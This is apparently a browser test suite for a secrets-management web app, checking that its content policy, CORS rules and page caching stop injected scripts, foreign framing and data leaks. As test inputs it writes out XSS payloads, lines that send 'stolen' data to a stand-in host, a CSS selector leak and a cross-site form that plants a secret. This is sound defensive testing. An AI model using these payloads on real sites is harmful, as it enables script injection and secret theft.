"""Foreign pages, injected scripts, and pages that were left: none of them gets a secret or acts for a person."""

import functools
import http.server
import threading

import pytest

from support.browser import Browser, wait_for
from support.web_proxy import WebProxy


@pytest.fixture(scope="module")
def reported(world):
    """A browser whose page has a policy with a report endpoint: (browser, reports)."""
    with WebProxy(world.control_plane) as proxy, Browser(proxy.url) as browser:
        yield browser.sign_in(world.tokens["admin"]), proxy.reports


def test_normal_use_violates_nothing_in_the_policy(reported, world):
    browser, reports = reported
    world.write("reported-keys", A="1")
    for view in ("fleet", "sets", "agents", "agents/support-bot", "access", "audit", "settings", "sets/reported-keys"):
        browser.open(view)
    browser.field("Key").send_keys("B")
    browser.field("Value").send_keys("value-of-b")
    browser.press("Write the key")
    browser.wait_text("1 key sent: B.")
    browser.press("Paste a .env")
    browser.press("Unset B")
    browser.find("dialog[open]")
    browser.press("Cancel")
    assert reports == []
    # The endpoint works: a violation on purpose is reported.
    browser.script("fetch('http://127.0.0.1:9/').catch(() => {})")
    wait_for(lambda: reports == ["connect-src"], what="the report")


def injected(browser, reports, script):
    """Runs a script as an injection would; the violations that are reported because of it."""
    reports.clear()
    browser.script("window.broken = undefined")
    with_errors = f"try {{ {script} }} catch {{ }}"
    browser.script(with_errors)
    wait_for(lambda: reports, what="a report")
    assert browser.script("return window.broken") is None
    return reports


def test_an_injected_inline_script_is_blocked(reported):
    browser, reports = reported
    assert "require-trusted-types-for" in injected(browser, reports, """
        const script = document.createElement('script');
        script.textContent = 'window.broken = 1';
        document.body.append(script);""")


def test_an_injected_handler_is_blocked(reported):
    browser, reports = reported
    found = injected(browser, reports, """
        const link = document.createElement('a');
        document.body.append(link);
        link.setAttribute('onclick', 'window.broken = 1');
        link.click();""")
    assert {"require-trusted-types-for", "script-src-attr"} & set(found)


def test_an_injected_script_of_a_foreign_origin_is_blocked(reported):
    browser, reports = reported
    assert {"require-trusted-types-for", "script-src-elem"} & set(injected(browser, reports, """
        const script = document.createElement('script');
        script.src = 'http://127.0.0.1:9/broken.js';
        document.body.append(script);"""))


def test_markup_from_a_string_is_blocked(reported):
    browser, reports = reported
    assert "require-trusted-types-for" in injected(
        browser, reports, "document.body.innerHTML = '<img src=x onerror=\"window.broken = 1\">';")
    assert browser.find("h1")


def test_a_text_is_never_run_as_a_script(reported):
    browser, reports = reported
    # Not through the driver's own eval: a timer of the page runs the text.
    assert {"require-trusted-types-for", "script-src"} & set(injected(browser, reports, "setTimeout('window.broken = 1', 0);"))


@pytest.mark.parametrize(("directive", "script"), [
    ("connect-src", "fetch('http://127.0.0.1:9/?' + 'stolen').catch(() => {})"),
    ("connect-src", "new WebSocket('ws://127.0.0.1:9/').close()"),
    ("img-src", "new Image().src = 'http://127.0.0.1:9/?stolen'"),
    ("form-action", """const form = document.createElement('form');
        form.action = 'http://127.0.0.1:9/'; form.method = 'post'; document.body.append(form); form.submit()"""),
    ("frame-src", "const frame = document.createElement('iframe'); frame.src = 'http://127.0.0.1:9/'; document.body.append(frame)"),
    ("style-src-elem", """const sheet = document.createElement('style');
        sheet.textContent = 'input[value^=a] { background: url(http://127.0.0.1:9/a) }'; document.head.append(sheet)"""),
], ids=["fetch", "socket", "picture", "form", "frame", "style"])
def test_nothing_is_sent_to_a_foreign_origin(reported, directive, script):
    browser, reports = reported
    assert directive in injected(browser, reports, script)


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_):
        pass


@pytest.fixture
def foreign_page(tmp_path, world):
    """A page of another origin that frames the page, sends forms, and asks the API."""
    (tmp_path / "index.html").write_text(f"""<!doctype html><title>foreign</title>
        <iframe id="frame" src="{world.url}/"></iframe>
        <form id="form" method="post" enctype="text/plain" target="sink" action="{world.url}/v1/organizations/acme/secrets/support-keys">
        <input name='{{"secrets":[{{"secretKey":"EVIL","secretValue":"' value='"}}]}}'></form><iframe name="sink"></iframe>""")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(QuietHandler, directory=tmp_path))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()


def test_a_foreign_page_cannot_frame_it(fresh, foreign_page):
    fresh.driver.get(foreign_page)
    assert fresh.script("""
        try { return document.getElementById('frame').contentDocument ? 'readable' : 'unreadable'; } catch (e) { return 'unreadable'; }
        """) == "unreadable"
    fresh.driver.switch_to.frame("frame")
    assert not fresh.all("#app")
    fresh.driver.switch_to.default_content()


FOREIGN_FETCH = """
const [url, method, headers, done] = arguments;
fetch(url, {method, headers, credentials: 'include', body: method === 'GET' ? undefined : '{}'})
  .then((answer) => answer.text().then((text) => done('read ' + text)), () => done('refused'));
"""


@pytest.mark.parametrize(("method", "path"), [
    ("GET", "secrets"), ("POST", "services"), ("PUT", "secrets/support-keys"), ("PATCH", "secrets/support-keys"),
    ("DELETE", "secrets/support-keys"),
])
def test_a_foreign_page_can_neither_read_nor_change_anything(fresh, world, foreign_page, method, path):
    before = world.rest.org("GET", "secrets/support-keys").body
    fresh.driver.get(foreign_page)
    fresh.script("document.getElementById('form').submit()")
    url = f"{world.url}/v1/organizations/acme/{path}"
    # Without a preflight where the method has none; with the preflight that a token in the header needs.
    for headers in ({"Content-Type": "text/plain"}, {"Authorization": f"Bearer {world.tokens['admin']}"}):
        assert fresh.driver.execute_async_script(FOREIGN_FETCH, url, method, headers) == "refused"
    assert world.rest.org("GET", "secrets/support-keys").body == before
    preflight = world.rest.request("OPTIONS", f"/v1/organizations/acme/{path}", headers={
        "Origin": foreign_page.rstrip("/"), "Access-Control-Request-Method": method})
    assert not [name for name in preflight.headers if name.lower().startswith("access-control-")]


def test_an_answer_of_the_api_is_run_neither_as_a_script_nor_as_a_sheet(fresh, world, foreign_page):
    fresh.driver.get(foreign_page)
    for path in ("/v1/organizations/acme/secrets", "/web/style.css", "/web/app.js", "/openapi.json"):
        done = fresh.driver.execute_async_script("""
            const [url, done] = arguments;
            const script = document.createElement('script');
            script.onload = () => done('loaded');
            script.onerror = () => done('refused');
            script.src = url;
            document.body.append(script);""", world.url + path)
        assert done == "refused", path
    fresh.sign_in(world.tokens["viewer"])
    assert fresh.driver.execute_async_script("""
        const done = arguments[0];
        import('/web/style.css').then(() => done('run'), () => done('refused'));""") == "refused"


def test_a_page_that_the_browser_kept_shows_nothing_after_coming_back(world, foreign_page):
    with Browser(world.url, keeps_pages=True) as browser:
        browser.sign_in(world.tokens["viewer"], "sets/support-keys")
        browser.driver.get(foreign_page)
        browser.driver.back()
        browser.find("input.secret")
        assert "OPENAI_API_KEY" not in browser.script("return document.documentElement.outerHTML")


def test_coming_back_after_signing_out_shows_nothing(world, foreign_page):
    with Browser(world.url, keeps_pages=True) as browser:
        browser.sign_in(world.tokens["viewer"], "sets/support-keys")
        browser.press("Sign out")
        browser.find("input.secret")
        browser.driver.get(foreign_page)
        for _ in range(3):
            browser.driver.back()
            if browser.driver.current_url.startswith(world.url):
                browser.find("input.secret")
            assert "OPENAI_API_KEY" not in browser.script("return document.documentElement.outerHTML")
